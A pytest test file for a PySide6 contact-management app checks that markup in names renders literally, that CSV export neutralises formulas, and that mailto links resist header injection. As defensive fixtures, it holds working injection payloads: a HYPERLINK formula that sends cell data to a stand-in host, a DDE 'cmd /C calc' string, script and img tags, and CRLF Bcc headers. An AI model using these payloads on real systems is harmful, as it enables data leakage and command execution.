"""Injection: markup in names shows literally in every pane; CSV export neutralizes formulas;
a mailto link cannot gain recipients or headers from an email field."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import parse_qsl, unquote, urlsplit

import peewee as pw
import pytest
from PySide6.QtCore import QAbstractItemModel, QAbstractListModel, QModelIndex, Qt
from PySide6.QtGui import Qt as QtGuiQt
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import QAbstractItemView, QLabel
from pytestqt.qtbot import QtBot

from netdesk.core.domain import InteractionKind, Tie
from netdesk.core.templates import mailto_url
from netdesk.services.clock import FixedClock
from netdesk.store import reader, writer
from netdesk.store.writer import derived

MARKUP_NAME = "<b>Eve</b><img src=http://127.0.0.1:9/track.png>"
MARKUP_SUMMARY = "<i>coffee</i> &amp; <a href='http://127.0.0.1:9/'>link</a>"


def shown(text: str, text_format: Qt.TextFormat = Qt.TextFormat.AutoText) -> str:
    """What Qt draws for `text` in a widget or tooltip with that format: the characters
    themselves for plain text, the rendered result for (guessed) rich text."""
    rich = text_format == Qt.TextFormat.RichText or (
        text_format == Qt.TextFormat.AutoText and QtGuiQt.mightBeRichText(text)
    )
    if not rich:
        return text
    document = QTextDocument()
    document.setHtml(text)
    return document.toPlainText()


def _texts(model: QAbstractItemModel) -> list[tuple[str, str]]:
    """(shown display text, shown tooltip) of every cell."""
    found = []
    columns = 1 if isinstance(model, QAbstractListModel) else model.columnCount()
    for row in range(model.rowCount(QModelIndex())):
        for column in range(columns):
            index = model.index(row, column)
            display = index.data(Qt.ItemDataRole.DisplayRole)
            tip = index.data(Qt.ItemDataRole.ToolTipRole)
            # Item views draw DisplayRole as plain text; tooltips are guessed.
            found.append((str(display or ""), shown(str(tip or ""))))
    return found


def test_names_with_markup_show_literally_in_every_pane(
    qtbot: QtBot, store: pw.SqliteDatabase, clock: FixedClock, desk
) -> None:  # type: ignore[no-untyped-def]
    now = clock.now()
    contact = writer.create_contact(
        {"display_name": MARKUP_NAME, "tie": Tie.ADVOCATE.value, "title": "<u>CTO</u>"},
        now - dt.timedelta(days=200),
        emails=["eve@example.org"],
        company="<script>alert(1)</script> Inc",
    )
    writer.log_interaction(
        contact.id,
        InteractionKind.EMAIL,
        now - dt.timedelta(days=60),
        now,
        summary=MARKUP_SUMMARY,
    )
    derived.recompute_follow_ups([contact.id], now)
    assert reader.follow_ups(now), "the contact should be due for a follow-up"
    window = desk()
    window.contacts.select_contact(contact.id)
    qtbot.waitUntil(lambda: window.timeline.view.model().rowCount() > 0)

    views = {
        name: window.findChild(QAbstractItemView, name)
        for name in ("contactList", "timeline", "followUps")
    }
    for name, view in views.items():
        assert view is not None, name
        texts = _texts(view.model())
        joined = "\n".join(d + "\n" + t for d, t in texts)
        # Either the name itself or the summary is in each pane, character for character.
        assert MARKUP_NAME in joined or MARKUP_SUMMARY in joined, (name, texts)
        for display, tip in texts:
            for raw in (MARKUP_NAME, MARKUP_SUMMARY):
                # A tooltip that mentions the name shows it whole, never rendered.
                if raw[:8] in tip:
                    assert raw in tip, (name, tip)
                if raw[:8] in display:
                    assert raw in display, (name, display)
    assert any(MARKUP_NAME in d for d, _ in _texts(views["followUps"].model()))
    assert any(MARKUP_SUMMARY in d for d, _ in _texts(views["timeline"].model()))
    # Every label that holds user text shows it as typed.
    labels = [
        label
        for label in window.findChildren(QLabel)
        if "<" in label.text() and "Eve" in label.text()
    ]
    assert labels, "the timeline's title names the contact"
    for label in labels:
        assert MARKUP_NAME in shown(label.text(), label.textFormat()), label.objectName()


def test_csv_export_neutralizes_formulas_end_to_end(tmp_path: Path) -> None:
    data = tmp_path / "data"
    env = dict(os.environ)
    env.pop("QT_QPA_PLATFORM", None)
    cards = tmp_path / "evil.vcf"
    hostile = {
        '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")': "eq@example.org",
        "+SUM(1+1)": "plus@example.org",
        "-2+3+cmd|' /C calc'!A0": "minus@example.org",
        "@SUM(1+1)": "at@example.org",
    }
    cards.write_text(
        "".join(
            f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{name}\r\nEMAIL:{email}\r\n"
            f"NOTE:=1+2\r\nORG:@evil\r\nEND:VCARD\r\n"
            for name, email in hostile.items()
        ),
        encoding="utf-8",
    )

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "netdesk", *args, "--data-dir", str(data)],
            capture_output=True,
            text=True,
            env=env,
            timeout=60,
            check=True,
        )

    run("import", str(cards))
    out = tmp_path / "out.csv"
    run("export", "--format", "csv", "-o", str(out))
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 1 + len(hostile)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    # Neutralized, not lost: the text is all still there after the guard.
    joined = "\n".join(cells)
    for name in hostile:
        assert name in joined


@pytest.mark.parametrize(
    "address",
    [
        "a@b.com?bcc=x@y.z",
        "a@b.com&cc=x@y.z",
        "a@b.com,x@y.z",
        "a@b.com%0D%0ABcc:x@y.z",
        "a@b.com\r\nBcc: x@y.z",
        "a@b.com#?to=x@y.z",
    ],
)
def test_a_mailto_link_has_one_recipient_and_no_extra_headers(address: str) -> None:
    url = mailto_url(address, "Hello\r\nBcc: x@y.z", "Line one\nLine two&to=x@y.z")
    parts = urlsplit(url)
    assert parts.scheme == "mailto" and parts.fragment == ""
    # The whole field is one (invalid) recipient, every separator in it percent-encoded.
    assert not any(ch in parts.path for ch in ",;?&# \r\n"), parts.path
    assert unquote(parts.path) == address.strip()
    headers = parse_qsl(parts.query, keep_blank_values=True)
    assert [name for name, _ in headers] == ["subject", "body"]
    subject = dict(headers)["subject"]
    assert "\r" not in subject and "\n" not in subject
